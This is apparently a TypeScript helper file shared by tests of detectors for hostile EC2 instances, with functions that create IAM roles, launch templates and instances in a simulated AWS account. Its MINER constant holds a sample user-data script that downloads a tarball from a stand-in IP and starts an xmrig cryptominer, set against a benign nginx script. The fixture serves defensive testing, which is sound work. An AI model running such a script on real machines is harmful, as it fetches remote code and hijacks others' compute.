import type { Call_ } from './stand.ts';

/** What the tests of the machine hunters share. */
export const IMAGE = 'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64';
export const base64 = (text: string): string => Buffer.from(text).toString('base64');
export const MINER = base64('#!/bin/sh\ncurl -s http://198.51.100.9/x.tgz | tar xz\n./xmrig -o stratum+tcp://pool.example:3333\n');
export const HONEST = base64('#!/bin/sh\ndnf install -y nginx\nsystemctl enable --now nginx\n');
export const COMPANY_ROLE = 'arn:aws:iam::111122223333:role/app';

/** A role with an instance profile of the same name. */
export async function profile(as: Call_, name: string): Promise<void> {
  const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] };
  await as('iam', 'CreateRole', { RoleName: name, AssumeRolePolicyDocument: JSON.stringify(trust) });
  await as('iam', 'CreateInstanceProfile', { InstanceProfileName: name });
  await as('iam', 'AddRoleToInstanceProfile', { InstanceProfileName: name, RoleName: name });
}
export const template = async (as: Call_, name: string, data: Record<string, unknown> = {}): Promise<string> =>
  (await as('ec2', 'CreateLaunchTemplate', { LaunchTemplateName: name, LaunchTemplateData: { ImageId: IMAGE, InstanceType: 't3.micro', ...data } as never }))
    .LaunchTemplate.LaunchTemplateId;
export const run = async (as: Call_, count: number, input: Record<string, unknown> = {}): Promise<any[]> =>
  (await as('ec2', 'RunInstances', { ImageId: IMAGE, InstanceType: 't3.micro', MinCount: count, MaxCount: count, ...input } as never)).Instances;
/** The default VPC and its subnets. */
export async function network(as: Call_): Promise<{ vpc: string; subnets: string[] }> {
  const { Vpcs } = await as('ec2', 'DescribeVpcs', { Filters: [{ Name: 'is-default', Values: ['true'] }] });
  const { Subnets } = await as('ec2', 'DescribeSubnets', { Filters: [{ Name: 'vpc-id', Values: [Vpcs[0].VpcId] }] });
  return { vpc: Vpcs[0].VpcId, subnets: Subnets.map((one: any) => one.SubnetId) };
}
